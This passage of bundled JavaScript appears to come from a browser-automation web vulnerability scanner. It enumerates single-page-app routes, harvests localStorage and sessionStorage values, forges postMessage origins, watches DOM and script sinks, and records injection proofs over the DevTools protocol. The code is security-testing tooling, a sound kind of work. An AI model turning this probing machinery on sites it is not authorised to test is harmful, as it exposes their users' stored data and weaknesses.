return;', '\t\t\tif (found.size < ROUTES_MAX) found.add(path.startsWith("/") || path.startsWith("#") ? path : `/${path}`);', "\t\t};", "\t\tfor (const read of [", "\t\t\tvueRoutes,", "\t\t\treactRoutes,", "\t\t\tnextRoutes,", "\t\t\tangularRoutes", "\t\t]) attempt(() => read(add));", "\t\treturn [...found];", "\t}", "\tfunction vueRoutes(add) {", '\t\tfor (const element of document.querySelectorAll("*")) {', "\t\t\tconst router = element.__vue_app__?.config?.globalProperties?.$router ?? element.__vue__?.$router;", "\t\t\tif (router === void 0) continue;", "\t\t\tfor (const { path } of [...router.getRoutes?.() ?? [], ...router.options?.routes ?? []]) {", '\t\t\t\tif (typeof path !== "string" || path.includes("(.*)")) continue;', '\t\t\t\tconst filled = path.replace(/:\\w{1,60}(?:\\([^)]{0,100}\\))?[?*+]?/g, "1");', "\t\t\t\tattempt(() => {", "\t\t\t\t\tconst href = router.resolve(filled).href;", '\t\t\t\t\tadd(typeof href === "string" ? href : filled);', "\t\t\t\t});", "\t\t\t}", "\t\t\treturn;", "\t\t}", "\t}", "\tfunction reactRoutes(add) {", '\t\tconst joined = (base, path) => path.startsWith("/") ? path : `${base.replace(/\\/$/, "")}/${path}`;', "\t\tconst fromTable = (routes, base) => {", "\t\t\tfor (const route of routes ?? []) {", '\t\t\t\tconst path = typeof route?.path === "string" ? joined(base, route.path) : base;', '\t\t\t\tif (typeof route?.path === "string") add(path);', "\t\t\t\tfromTable(route?.children, path);", "\t\t\t}", "\t\t};", '\t\tconst isRoute = (props) => typeof props?.path === "string" && [', '\t\t\t"element",', '\t\t\t"Component",', '\t\t\t"component",', '\t\t\t"render",', '\t\t\t"children"', "\t\t].some((name) => name in props);", "\t\tconst fromElements = (children, base) => {", "\t\t\tfor (const child of [children].flat(5)) {", "\t\t\t\tconst props = child?.props;", "\t\t\t\tif (props === void 0 || props === null) continue;", "\t\t\t\tconst path = isRoute(props) ? joined(base, props.path) : base;", "\t\t\t\tif (isRoute(props)) add(path);", "\t\t\t\tif (props.children !== void 0) fromElements(props.children, path);", "\t\t\t}", "\t\t};", "\t\tlet visited = 0;", "\t\tfor (const root of reactRoots()) {", "\t\t\tconst stack = [root];", "\t\t\twhile (stack.length > 0 && visited < NODES_MAX) {", "\t\t\t\tconst fiber = stack.pop();", "\t\t\t\tif (fiber === null || fiber === void 0) continue;", "\t\t\t\tvisited += 1;", "\t\t\t\tconst props = fiber.memoizedProps;", '\t\t\t\tif (props?.router?.routes !== void 0) fromTable(props.router.routes, "/");', '\t\t\t\tif ([props?.children].flat(5).some((child) => isRoute(child?.props))) fromElements(props.children, "/");', "\t\t\t\tstack.push(fiber.sibling, fiber.child);", "\t\t\t}", "\t\t}", "\t}", "\tfunction reactRoots() {", "\t\tconst roots = [];", '\t\tfor (const element of document.querySelectorAll("*")) {', '\t\t\tconst key = Object.keys(element).find((name) => name.startsWith("__reactContainer$"));', "\t\t\tif (key !== void 0) roots.push(element[key]?.stateNode?.current ?? element[key]);", "\t\t\tconst legacy = element._reactRootContainer;", "\t\t\tif (legacy !== void 0) roots.push(legacy._internalRoot?.current ?? legacy.current);", "\t\t}", "\t\treturn roots;", "\t}", "\tfunction nextRoutes(add) {", "\t\tconst scope = globalThis;", '\t\tfor (const path of scope.__BUILD_MANIFEST?.sortedPages ?? []) if (!/^\\/_(?:app|error|document)$/.test(path)) add(String(path).replace(/\\[{1,2}[^[\\]]{1,80}\\]{1,2}/g, "1"));', "\t}", "\tfunction angularRoutes(add) {", "\t\tconst scope = globalThis;", "\t\tconst root = scope.getAllAngularRootElements?.()[0];", "\t\tconst injector = scope.ng?.getInjector?.(root);", "\t\tif (injector === void 0) return;", '\t\tconst token = [...injector.records?.keys() ?? []].find((key) => key?.name === "Router" || key?.name === "_Router");', "\t\tconst walk = (routes, base) => {", "\t\t\tfor (const route of routes ?? []) {", '\t\t\t\tconst path = route.path === void 0 || route.path === "" ? base : `${base}/${route.path}`;', '\t\t\t\tif (route.path !== "**") add(path);', "\t\t\t\twalk(route.children ?? route._loadedRoutes, path);", "\t\t\t}", "\t\t};", '\t\tif (token !== void 0) walk(injector.get(token).config, "");', "\t}", "\tvar TEXT_MAX = 2e3;", "\tvar LINKS_MAX$1 = 12;", '\tvar CONTENT = "a[href], audio, button, canvas, embed, frame, iframe, img, input, math, meter, object, progress, select, svg, textarea, video";', '\tvar OVERLAY = "vite-error-overlay, nextjs-portal, iframe#webpack-dev-server-client-overlay";', "\tfunction shownView() {", "\t\tif (document.links.length > LINKS_MAX$1) return null;", "\t\tconst shown = allElements().filter((element) => !isOverlay(element) && isShown(element));", "\t\tconst texts = shown.map((element) => ({", "\t\t\ttext: ownTextOf(element),", '\t\t\tisLink: element.closest("a") !== null', "\t\t}));", '\t\tconst joined = (parts) => parts.map(({ text }) => text).join(" ").replace(/\\s+/g, " ").trim();', "\t\tconst text = joined(texts).slice(0, TEXT_MAX);", "\t\treturn {", "\t\t\ttitle: document.title.trim().slice(0, 200),", '\t\t\theading: (shown.find(({ localName }) => /^h[12]$/.test(localName))?.textContent ?? "").trim().slice(0, 200),', "\t\t\ttext,", "\t\t\townText: joined(texts.filter(({ isLink }) => !isLink)).slice(0, TEXT_MAX),", "\t\t\tlinks: document.links.length,", '\t\t\tisBlank: text === "" && !shown.some((element) => element.matches(CONTENT))', "\t\t};", "\t}", "\tfunction ownTextOf(element) {", '\t\tif (element.matches("input[type=submit], input[type=button]")) return element.value;', '\t\treturn [...element.childNodes, ...element.shadowRoot?.childNodes ?? []].map((node) => node.nodeType === Node.TEXT_NODE ? node.nodeValue : "").join(" ");', "\t}", "\tfunction isOverlay(element) {", "\t\tconst root = element.getRootNode();", "\t\treturn (root instanceof ShadowRoot ? root.host : element.ownerDocument.defaultView?.frameElement ?? element).matches(OVERLAY) || element.matches(OVERLAY);", "\t}", "\tvar LINKS_MAX = 500;", "\tvar STORED_MAX = 50;", "\tvar LINK_ATTRIBUTES = [", '\t\t"href",', '\t\t"action",', '\t\t"formaction",', '\t\t"src",', '\t\t"data",', '\t\t"cite",', '\t\t"longdesc",', '\t\t"ping",', '\t\t"poster",', '\t\t"background",', '\t\t"data-href",', '\t\t"data-url",', '\t\t"xlink:href",', '\t\t"ng-href",', '\t\t"manifest",', '\t\t"codebase",', '\t\t"profile",', '\t\t"archive",', '\t\t"lowsrc",', '\t\t"dynsrc"', "\t];", "\tfunction snapshot() {", "\t\treturn {", "\t\t\turl: bounded(location.href),", "\t\t\tlinks: linksOf(),", "\t\t\troutes: [.../* @__PURE__ */ new Set([...routerPaths(), ...routerLinks()])],", "\t\t\tactions: pageActions(),", '\t\t\tstored: [...storedIn("localStorage"), ...storedIn("sessionStorage")],', "\t\t\tscripts: scriptElements(),", "\t\t\tisSignIn: isSignIn(),", "\t\t\tshown: shownView()", "\t\t};", "\t}", "\tfunction isSignIn() {", '\t\treturn allElements().some((element) => element.matches("input[type=password]") && isShown(element)) && document.links.length <= 15 && document.body.innerText.length <= 2e3;', "\t}", "\tfunction linksOf() {", "\t\tconst found = /* @__PURE__ */ new Set();", "\t\tconst add = (value, base) => {", '\t\t\tif (value === null || value === "" || /^\\s*(?:javascript|mailto|tel|data|blob|about):/i.test(value)) return;', "\t\t\tif (found.size < LINKS_MAX) attempt(() => found.add(bounded(new URL(value, base).href)));", "\t\t};", "\t\tfor (const element of allElements()) {", "\t\t\tconst base = element.ownerDocument.baseURI;", "\t\t\tfor (const name of LINK_ATTRIBUTES) add(element.getAttribute(name), base);", '\t\t\tconst value = element.getAttribute("value");', "\t\t\tif (/^(?:option|param)$/.test(element.localName) && value !== null && /^(?:[./]|https?:)/.test(value)) add(value, base);", '\t\t\tfor (const part of (element.getAttribute("srcset") ?? "").split(",").slice(0, 10)) add(part.trim().split(/\\s/)[0] ?? null, base);', "\t\t}", "\t\treturn [...found];", "\t}", "\tfunction routerLinks() {", "\t\treturn allElements().flatMap((element) => {", '\t\t\tconst path = element.hasAttribute("href") ? null : element.getAttribute("routerlink");', '\t\t\treturn path === null || !path.startsWith("/") ? [] : bounded(path);', "\t\t});", "\t}", "\tfunction storedIn(name) {", "\t\tconst found = [];", "\t\tattempt(() => {", "\t\t\tconst storage = window[name];", "\t\t\tfor (let index = 0; index < Math.min(storage.length, STORED_MAX); index += 1) {", '\t\t\t\tconst key = storage.key(index) ?? "";', "\t\t\t\tfound.push({", "\t\t\t\t\tstorage: name,", "\t\t\t\t\tname: bounded(key).slice(0, 100),", '\t\t\t\t\tvalue: bounded(storage.getItem(key) ?? "")', "\t\t\t\t});", "\t\t\t}", "\t\t});", "\t\treturn found;", "\t}", "\tfunction scriptElements() {", '\t\treturn [...document.scripts].filter(({ src }) => src !== "").slice(0, 200).map((script) => ({', "\t\t\turl: bounded(script.src),", '\t\t\thasIntegrity: script.integrity !== ""', "\t\t}));", "\t}", "\tif (isWanted()) {", "\t\tSCAN_GATE_EXPORTS.proof = (value) => report({", '\t\t\tkind: "proof",', '\t\t\tvalue: typeof value === "string" ? value : CALLED_BACK,', "\t\t\torigin: self.origin", "\t\t});", "\t\thideReplacements();", '\t\tif (CONFIG.windowName !== "" && window === window.top) window.name = CONFIG.windowName;', "\t\twatchListeners();", "\t\twatchComparisons(CONFIG.foreignHost);", "\t\twatchNavigation();", "\t\twatchSinks();", "\t\twatchActivity();", "\t\tconst signIn = {", "\t\t\tfillField,", "\t\t\tfocusField,", "\t\t\tloginView,", "\t\t\tpressButton,", "\t\t\tstoredItems", "\t\t};", "\t\tSCAN_GATE_EXPORTS.api = {", "\t\t\tact,", "\t\t\tidle,", "\t\t\tmarkedAttributes,", "\t\t\tpressMarked,", "\t\t\tsnapshot,", "\t\t\tdispatch,", "\t\t\t...signIn", "\t\t};", "\t}", "\tfunction dispatch(origin, data) {", '\t\tconst frame = document.createElement("iframe");', "\t\t(document.body ?? document.documentElement).append(frame);", '\t\twindow.dispatchEvent(new MessageEvent("message", {', "\t\t\tdata,", "\t\t\torigin,", "\t\t\tsource: frame.contentWindow", "\t\t}));", "\t}", "})();", "" ].join("\n");
const RECORDED_SCRIPT = [ "var scanGateRecorded = (function(exports) {", '\tObject.defineProperty(exports, Symbol.toStringTag, { value: "Module" });', "\tfunction setValue(element, value) {", '\t\tconst property = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(element), "value");', "\t\tif (property?.set === void 0) element.value = value;", "\t\telse property.set.call(element, value);", "\t}", "\tfunction enterText(element, value) {", "\t\ttried(() => element.focus());", "\t\tsetValue(element, value);", "\t\tfor (const type of [", '\t\t\t"input",', '\t\t\t"keyup",', '\t\t\t"change",', '\t\t\t"blur"', "\t\t]) tried(() => element.dispatchEvent(new Event(type, {", '\t\t\tbubbles: type !== "blur",', "\t\t\tcomposed: true", "\t\t})));", "\t}", "\tfunction tried(step) {", "\t\ttry {", "\t\t\tstep();", "\t\t} catch {}", "\t}", "\tvar FOUND_MAX = 50;", "\tfunction query(root, kind, value) {", "\t\tconst start = root instanceof Element ? root.shadowRoot ?? root : root;", '\t\treturn (kind === "xpath" ? byPath(start, value) : bySelector(start, kind, value)).slice(0, FOUND_MAX);', "\t}", "\tfunction bySelector(start, kind, value) {", '\t\tif (kind === "css") return [...start.querySelectorAll(value)];', "\t\tconst all = withShadows(start);", '\t\tif (kind === "pierce") return all.filter((element) => element.matches(value));', '\t\tconst holds = new Set(all.filter((element) => (element.textContent ?? "").includes(value)));', "\t\treturn [...holds].filter(({ children }) => ![...children].some((child) => holds.has(child)));", "\t}", "\tfunction withShadows(start) {", '\t\treturn [...start.querySelectorAll("*")].flatMap((element) => element.shadowRoot === null ? [element] : [element, ...withShadows(element.shadowRoot)]);', "\t}", "\tfunction byPath(start, value) {", "\t\tconst found = (start.ownerDocument ?? start).evaluate(value, start, null, XPathResult.ORDERED_NODE_SNAPSHOT_TYPE);", "\t\treturn Array.from({ length: found.snapshotLength }, (_, at) => found.snapshotItem(at)).filter((node) => node instanceof Element);", "\t}", "\tfunction isMeant(element, attributes) {", "\t\treturn element.getClientRects().length > 0 && element.checkVisibility({ visibilityProperty: true }) && Object.entries(attributes).every(([name, value]) => element.getAttribute(name) === value);", "\t}", "\tfunction isSecret(element) {", '\t\treturn element instanceof HTMLInputElement && element.type === "password";', "\t}", "\tfunction enter(element, value) {", "\t\tif (element instanceof HTMLInputElement && /^(?:button|checkbox|file|image|radio|reset|submit)$/.test(element.type)) return false;", "\t\tif (element instanceof HTMLInputElement || element instanceof HTMLTextAreaElement) enterText(element, value);", "\t\telse if (element instanceof HTMLSelectElement) {", "\t\t\telement.value = value;", "\t\t\tif (element.value !== value) return false;", '\t\t\tfor (const type of ["input", "change"]) element.dispatchEvent(new Event(type, {', "\t\t\t\tbubbles: true,", "\t\t\t\tcomposed: true", "\t\t\t}));", "\t\t} else return false;", "\t\treturn true;", "\t}", "\texports.enter = enter;", "\texports.isMeant = isMeant;", "\texports.isSecret = isSecret;", "\texports.query = query;", "\treturn exports;", "})({});", "" ].join("\n");
const read_report_TEXT_MAX = 2e3;
const SOURCE_MAX = 8e3;
const LIST_MAX = 600;
function readReport(text) {
const fields = fieldsOf((0, shared_records.U4)(text));
const kind = fields["kind"];
switch (kind) {
case "route":
case "socket":
return {
kind: kind,
url: read_report_textOf(fields, "url")
};

case "parameter":
return {
kind: kind,
name: read_report_textOf(fields, "name", 60),
inFragment: fields["inFragment"] === true
};

case "proof":
return {
kind: kind,
value: read_report_textOf(fields, "value", 60),
origin: read_report_textOf(fields, "origin", 300)
};

case "message-handler":
return {
kind: kind,
source: read_report_textOf(fields, "source", SOURCE_MAX)
};

case "comparison":
return {
kind: kind,
name: read_report_textOf(fields, "name", 20),
text: read_report_textOf(fields, "text", 300)
};

case "sink":
{
const sinkKind = fields["sinkKind"];
if (!isSinkKind(sinkKind)) return null;
const text2 = read_report_textOf(fields, "text");
const at = Math.min(text2.length, Math.max(0, Math.trunc(Number(fields["at"])) || 0));
return {
kind: kind,
sinkKind: sinkKind,
sink: read_report_textOf(fields, "sink", 80),
mark: read_report_textOf(fields, "mark", 60),
text: text2,
at: at
};
}

default:
return null;
}
}
function readSnapshot(value) {
const fields = fieldsOf(value);
if (typeof fields["url"] !== "string") return null;
return {
url: read_report_textOf(fields, "url"),
links: textsOf(fields["links"]),
routes: textsOf(fields["routes"]),
actions: read_report_listOf(fields["actions"]).map(action => ({
id: Number(action["id"]),
signature: read_report_textOf(action, "signature"),
label: read_report_textOf(action, "label", 40),
submits: action["submits"] === true
})),
stored: read_report_listOf(fields["stored"]).map(stored => ({
storage: stored["storage"] === "sessionStorage" ? "sessionStorage" : "localStorage",
name: read_report_textOf(stored, "name", 100),
value: read_report_textOf(stored, "value")
})),
scripts: read_report_listOf(fields["scripts"]).map(script => ({
url: read_report_textOf(script, "url"),
hasIntegrity: script["hasIntegrity"] === true
})),
isSignIn: fields["isSignIn"] === true,
shown: typeof fields["shown"] === "object" && fields["shown"] !== null ? readShown(fieldsOf(fields["shown"])) : null
};
}
function readShown(fields) {
return {
title: read_report_textOf(fields, "title", 200),
heading: read_report_textOf(fields, "heading", 200),
text: read_report_textOf(fields, "text", 2e3),
ownText: read_report_textOf(fields, "ownText", 2e3),
links: Number(fields["links"]),
isBlank: fields["isBlank"] === true
};
}
function readMarkedAttributes(value) {
return read_report_listOf(value).map(found => ({
name: read_report_textOf(found, "name", 40),
tag: read_report_textOf(found, "tag", 40),
mark: read_report_textOf(found, "mark", 60),
value: read_report_textOf(found, "value")
}));
}
function readIssue(issue, page) {
const details = fieldsOf(fieldsOf(issue)["details"]);
const csp = fieldsOf(details["contentSecurityPolicyIssueDetails"]);
if (typeof csp["violatedDirective"] === "string") return {
kind: "csp",
page: page,
directive: csp["violatedDirective"].slice(0, 100),
blocked: String(csp["blockedURL"] ?? "").slice(0, 500),
isReportOnly: csp["isReportOnly"] === true
};
const mixed = fieldsOf(details["mixedContentIssueDetails"]);
if (typeof mixed["insecureURL"] === "string") return {
kind: "mixed-content",
page: page,
url: mixed["insecureURL"].slice(0, 500),
isBlocked: mixed["resolutionStatus"] === "MixedContentBlocked"
};
return null;
}
function isSinkKind(value) {
return value === "html" || value === "script" || value === "url";
}
function fieldsOf(value) {
return typeof value === "object" && value !== null ? value : {};
}
function read_report_textOf(fields, name, max = read_report_TEXT_MAX) {
const value = fields[name];
return typeof value === "string" ? value.slice(0, max).toWellFormed() : "";
}
function textsOf(value) {
if (!Array.isArray(value)) return [];
return value.slice(0, LIST_MAX).filter(text => typeof text === "string" && text.length <= read_report_TEXT_MAX);
}
function read_report_listOf(value) {
return Array.isArray(value) ? value.slice(0, LIST_MAX).map(fieldsOf) : [];
}
const SHOWN = new Set([ "alt", "label", "placeholder", "title", "value", "summary", "srcdoc" ]);
function shownTextOf(snapshot) {
const strings = listAt(snapshot, "strings").map(String);
const textAt = index => typeof index === "number" ? strings[index] ?? "" : "";
const documents = listAt(snapshot, "documents");
const laidOut = documents.flatMap(each => listAt(each, "layout", "text").map(textAt));
const others = documents.flatMap(each => [ ...[ "inputValue", "textValue" ].flatMap(name => listAt(each, "nodes", name, "value").map(textAt)), ...listAt(each, "nodes", "attributes").flatMap(attributes => shownValues(attributes, textAt)), textAt(valueAt(each, "title")) ]);
return [ ...others, ...laidOut, laidOut.join(""), laidOut.map(text => text.trim()).join("") ].join("\n");
}
function shownValues(attributes, textAt) {
const indices = Array.isArray(attributes) ? attributes : [];
return indices.flatMap((index, at) => {
const isValue = at % 2 === 1 && SHOWN.has(textAt(indices[at - 1]).toLowerCase());
return isValue ? [ textAt(index) ] : [];
});
}
function valueAt(from, ...names) {
let value = from;
for (const name of names) value = typeof value === "object" && value !== null ? value[name] : undefined;
return value;
}
function listAt(from, ...names) {
const value = valueAt(from, ...names);
return Array.isArray(value) ? value : [];
}
const read_login_ITEMS_MAX = 50;
const VALUE_MAX = 16384;
function readLoginView(value) {
const view = fieldsOf(value);
if (typeof view["url"] !== "string") return null;
return {
url: read_report_textOf(view, "url"),
titles: Array.isArray(view["titles"]) ? view["titles"].slice(0, 10).map(text => String(text).slice(0, 200)) : [],
forms: read_report_listOf(view["forms"]).map(form => ({
fields: read_report_listOf(form["fields"]).map(field => ({
id: Number(field["id"]),
name: read_report_textOf(field, "name", 100),
type: read_report_textOf(field, "type", 20),
hint: read_report_textOf(field, "hint"),
autocomplete: read_report_textOf(field, "autocomplete", 100)
})),
buttons: read_report_listOf(form["buttons"]).map(button => ({
id: Number(button["id"]),
text: read_report_textOf(button, "text", 40)
}))
})),
links: read_report_listOf(view["links"]).map(link => ({
url: read_report_textOf(link, "url"),
text: read_report_textOf(link, "text", 40)
})),
hasCaptcha: view["hasCaptcha"] === true
};
}
function readStorage(value) {
const stored = fieldsOf(value);
return {
localStorage: itemsOf(stored["localStorage"]),
sessionStorage: itemsOf(stored["sessionStorage"])
};
}
function itemsOf(value) {
const items = Object.entries(fieldsOf(value)).filter(item => typeof item[1] === "string" && item[1].length <= VALUE_MAX);
return Object.fromEntries(items.slice(0, read_login_ITEMS_MAX));
}
function storageScript(origin, storage) {
const {cookies: cookies = {}, ...items} = storage;
return `if (self.origin === ${JSON.stringify(origin)}) { for (const [name, items] of Object.entries(${JSON.stringify(items)}))\nfor (const [key, value] of Object.entries(items)) try { self[name].getItem(key) ?? self[name].setItem(key, value); } catch {}\nfor (const [key, value] of Object.entries(${JSON.stringify(cookies)})) try {\nif (!document.cookie.split('; ').some((one) => one.startsWith(key + '='))) document.cookie = key + '=' + value + '; path=/'; } catch {} }`;
}
var route_shape = __webpack_require__(79133);
const LOAD_MS = 1e4;
const CALL_MS = 5e3;
const SETTLE_MS = 1e4;
const TIMERS_MS = 2500;
const RESTLESS_MS = 600;
const FRAMES_MAX = 20;
const FRAME_MS = 100;
const LATE_MAX = 3;
const REFUSED_MS = 100;
const PATIENCE = 2;
const REPORTS_MAX = 2e4;
const EXPIRE_COOKIES = "for (const one of document.cookie.split('; ')) document.cookie = one.split('=', 1)[0] + '=; path=/; max-age=0';";
class BrowserPage {
gate;
#session;
#names;
#frame;
#script=null;
#scriptKey="";
#location="";
#isCrashed=false;
storage=() => null;
#stored=null;
#cutOffs=0;
#wasCutOff=false;
#patience=1;
#timersMs=TIMERS_MS;
#isNamed=false;
constructor(session, gate, names, frame) {
this.#frame = frame;
this.#session = session;
this.gate = gate;
this.#names = names;
}
static async open({connection: connection, userAgent: userAgent}, gate, names, listener) {
const {browserContextId: browserContextId} = await connection.send("Target.createBrowserContext", {
disposeOnDetach: true
});
const {targetId: targetId} = await connection.send("Target.createTarget", {
url: "about:blank",
browserContextId: browserContextId
});
const attached = await connection.send("Target.attachToTarget", {
targetId: targetId,
flatten: true
});
const session = new CdpSession(connection, String(attached["sessionId"]));
const page = new BrowserPage(session, gate, names, String(targetId));
await session.send("Emulation.setUserAgentOverride", {
...userAgent
});
await page.#prepare(connection, {
targetId: String(targetId),
browserContextId: browserContextId
}, listener);
return page;
}
async #prepare(connection, own, listener) {
const {targetId: targetId, browserContextId: browserContextId} = own;
const session = this.#session;
let reports = 0;
session.on("Runtime.bindingCalled", ({name: name, payload: payload}) => {
reports += 1;
if (name !== this.#names.binding || typeof payload !== "string" || reports > REPORTS_MAX) return;
const report = readReport(payload);
if (report !== null) listener.onReport(report);
});
session.on("Page.javascriptDialogOpening", ({type: type}) => session.post("Page.handleJavaScriptDialog", {
accept: type === "beforeunload"
}));
session.on("Audits.issueAdded", ({issue: issue}) => {
const read = readIssue(issue, this.#location);
if (read !== null && this.gate.isCrawling) listener.onIssue(read);
});
session.on("Inspector.targetCrashed", () => {
this.#isCrashed = true;
});
connection.on("Target.targetCreated", ({targetInfo: targetInfo}) => {
const info = (0, shared_records.g1)(targetInfo);
if (info["type"] !== "page" || info["targetId"] === targetId) return;
if (info["browserContextId"] !== browserContextId) return;
listener.onPopup(String(info["url"]));
connection.send("Target.closeTarget", {
targetId: info["targetId"]
}).catch(() => undefined);
});
await this.gate.attach(session, targetId);
await Promise.all([ connection.send("Target.setDiscoverTargets", {
discover: true
}), session.send("Page.enable"), session.send("Runtime.enable"), session.send("Network.enable"), session.send("Audits.enable"), session.send("Inspector.enable"), session.send("Runtime.addBinding", {
name: this.#names.binding
}), session.send("Network.setBypassServiceWorker", {
bypass: true
}), session.send("Emulation.setFocusEmulationEnabled", {
enabled: true
}), connection.send("Browser.setDownloadBehavior", {
behavior: "deny",
browserContextId: browserContextId
}) ]);
}
async shownText() {
const snapshot = await this.#session.send("DOMSnapshot.captureSnapshot", {
computedStyles: []
}).catch(() => null);
return snapshot === null ? null : shownTextOf(snapshot);
}
async screenshot() {
for (const quality of [ 60, 20 ]) {
const taken = await this.#session.send("Page.captureScreenshot", {
format: "jpeg",
quality: quality
}).catch(() => null);
const data = taken?.["data"];
if (typeof data === "string" && data.length <= contract_coverage.p7) return data;
}
return null;
}
async load(url, options) {
const {mode: mode, marks: marks = [], foreignHost: foreignHost = "", windowName: windowName = ""} = options;
const {servedFrom: servedFrom = null, attacker: attacker = null, isAgain: isAgain = false} = options;
this.#patience = isAgain ? PATIENCE : 1;
if (this.#isNamed) await this.evaluate("window.name = ''");
this.#isNamed = windowName !== "";
await this.#store();
const {binding: binding, word: word} = this.#names;
await this.#inject({
binding: binding,
word: word,
mode: mode,
marks: marks,
foreignHost: foreignHost,
windowName: windowName
});
if ((0, route_shape.f2)(this.#location) === (0, route_shape.f2)(url)) await this.#navigate("about:blank");
const stays = mode !== "crawl";
const log = this.gate.open({
mode: mode,
url: (0, route_shape.f2)(url),
stays: stays,
servedFrom: servedFrom,
attacker: attacker,
isAgain: isAgain
});
this.#location = url;
this.#wasCutOff = false;
if (!await this.#navigate(url, options.referrer)) this.#cutOffs += 1;
await this.settle();
return log;
}
async #navigate(url, referrer) {
this.#requireAlive();
if (url === "about:blank") this.#location = url;
const ms = LOAD_MS * this.#patience;
const loaded = this.#once("Page.loadEventFired", ms);
const from = referrer === undefined ? {} : {
referrer: referrer,
referrerPolicy: "unsafeUrl"
};
const {errorText: errorText} = await this.#session.send("Page.navigate", {
url: url,
...from
});
const stopped = this.#once("Page.frameStoppedLoading", ms, ({frameId: frameId}) => frameId === this.#frame);
const isLoaded = errorText !== undefined || await Promise.race([ loaded.done, stopped.done ]);
stopped.cancel();
loaded.cancel();
return isLoaded;
}
get session() {
return this.#session;
}
get frame() {
return this.#frame;
}
async pressEnter() {
const key = {
key: "Enter",
code: "Enter",
windowsVirtualKeyCode: 13
};
await this.#session.send("Input.dispatchKeyEvent", {
type: "keyDown",
text: "\r",
...key
});
await this.#session.send("Input.dispatchKeyEvent", {
type: "keyUp",
...key
});
}
async call(name, ...values) {
const list = values.map(value => JSON.stringify(value)).join(", ");
const {api: api} = this.#names;
return this.evaluate(`typeof ${api} === 'undefined' ? undefined : ${api}?.${name}(${list})`);
}
async evaluate(expression) {
const evaluated = await this.#evaluated(expression);
if (evaluated === null) this.#cutOffs += 1;
return evaluated?.value;
}
async #evaluated(expression) {
this.#requireAlive();
try {
const policy = {
allowUnsafeEvalBlockedByCSP: false
};
const options = {
expression: expression,
returnByValue: true,
awaitPromise: true,
timeout: CALL_MS,
...policy
};
const {result: result} = await this.#session.send("Runtime.evaluate", options, CALL_MS * 2);
return {
value: (0, shared_records.g1)(result)["value"]
};
} catch (error) {
if (error instanceof CdpError && error.code === "refused") return null;
throw error;
}
}
async snapshot() {
return readSnapshot(await this.call("snapshot"));
}
get cutOffs() {
return this.#cutOffs;
}
async settle() {
const end = performance.now() + SETTLE_MS * this.#patience;
const waited = {
changed: 0,
late: 0,
timersMs: 0
};
let isOver = false;
while (!isOver && performance.now() < end && await this.gate.answered(end - performance.now())) isOver = await this.#isIdle(waited);
const {isCutOff: isCutOff} = this.gate;
if (!isOver || isCutOff && !this.#wasCutOff) this.#cutOffs += 1;
this.#wasCutOff = isCutOff;
}
async #isIdle(waited) {
const before = performance.now();
const {api: api} = this.#names;
const evaluated = await this.#evaluated(`typeof ${api} === 'undefined' ? undefined : ${api}?.idle()`);
const ms = performance.now() - before;
if (evaluated === null) {
await (0, external_node_timers_promises_.setTimeout)(REFUSED_MS);
return false;
}
const {timers: timers, isStill: isStill, hasFrame: hasFrame, isIdle: isIdle} = (0, 
shared_records.g1)(evaluated.value);
if (typeof timers !== "number") return true;
if (hasFrame !== true || !this.gate.frame() || this.gate.inFlight > 0) return false;
const isLate = isIdle !== true || ms > FRAME_MS;
if (isLate) waited.late += 1;
if (timers > 0) return this.#isRestless(waited, ms);
if (isLate && waited.late < LATE_MAX) return false;
if (isStill !== true) waited.changed += 1;
return isStill === true || waited.changed > FRAMES_MAX;
}
#isRestless(waited, ms) {
waited.timersMs += Math.min(ms, FRAME_MS);
if (waited.timersMs <= this.#timersMs) return false;
if (waited.late === 0) this.#timersMs = RESTLESS_MS;
return true;
}
async #store() {
const stored = this.storage();
if (stored !== this.#stored) await this.evaluate(`localStorage.clear(); sessionStorage.clear(); ${EXPIRE_COOKIES}`);
if (stored !== this.#stored) this.#scriptKey = "";
this.#stored = stored;
}
async #inject(config) {
const key = JSON.stringify(config);
if (key === this.#scriptKey) return;
if (this.#script !== null) await this.#session.send("Page.removeScriptToEvaluateOnNewDocument", {
identifier: this.#script
});
const kept = this.#stored === null ? "" : storageScript(this.gate.origin, this.#stored);
const {api: api, proof: proof} = this.#names;
const body = `'use strict'; ${kept}\nconst SCAN_GATE_CONFIG = ${key}, SCAN_GATE_EXPORTS = {};\n${PAGE_SCRIPT}`;
const source = `const { api: ${api}, proof: ${proof} } = (() => { ${body}\nreturn SCAN_GATE_EXPORTS; })();`;
const {identifier: identifier} = await this.#session.send("Page.addScriptToEvaluateOnNewDocument", {
source: source
});
this.#script = String(identifier);
this.#scriptKey = key;
}
#once(method, ms, isMeant = () => true) {
const {promise: promise, resolve: resolve} = Promise.withResolvers();
const timer = setTimeout(() => resolve(false), ms);
const stop = this.#session.on(method, event => {
if (isMeant(event)) resolve(true);
});
return {
done: promise,
cancel: () => {
clearTimeout(timer);
stop();
}
};
}
#requireAlive() {
if (this.#isCrashed) throw new CdpError("closed", "the page crashed");
}
}
var contract_recording = __webpack_require__(69004);
const WORLD = "recording";
const LOOK_MS = 100;
const STEP_MS_MAX = 3e4;
const ELEMENTS_MAX = 50;
const BUTTONS = {
secondary: "right",
auxiliary: "middle"
};
class RecordedPage {
#session;
#rest;
#navigations=0;
constructor(session, frame, rest) {
this.#session = session;
this.#rest = rest;
const count = id => {
if (id === frame) this.#navigations += 1;
};
session.on("Page.frameNavigated", event => count((0, shared_records.g1)(event["frame"])["id"]));
session.on("Page.navigatedWithinDocument", ({frameId: frameId}) => count(frameId));
}
watch() {
const before = this.#navigations;
return async ms => {
const isSo = await until(ms, async () => this.#navigations > before ? true : null) === true;
if (isSo) await this.#rest();
return isSo;
};
}
async resize(width, height) {
const metrics = {
width: width,
height: height,
deviceScaleFactor: 0,
mobile: false
};
await this.#session.send("Emulation.setDeviceMetricsOverride", metrics);
}
async key(type, key) {
const {code: code, text: text} = (0, contract_recording.TN)(key) ?? {
code: 0,
text: ""
};
const typed = type === "keyDown" && text !== "" ? {
text: text
} : {};
await this.#session.send("Input.dispatchKeyEvent", {
type: type,
key: key,
windowsVirtualKeyCode: code,
...typed
});
await this.#rest();
}
find(step, recording) {
return until(step.timeout ?? recording.timeout, () => this.#look(step));
}
async #look(step) {
for (const selectors of step.selectors ?? []) {
const found = await this.#matches(step, [ selectors ].flat()).catch(error => {
if (error instanceof CdpError && error.code !== "closed") return [];
throw error;
});
if (isEnough(step, found.length)) return new RecordedElement(this.#session, found[0] ?? "", this.#rest);
}
return null;
}
async #matches(step, chain) {
const {contextId: contextId, root: root} = await this.#document(step);
let found = [ root ];
for (const selector of chain) {
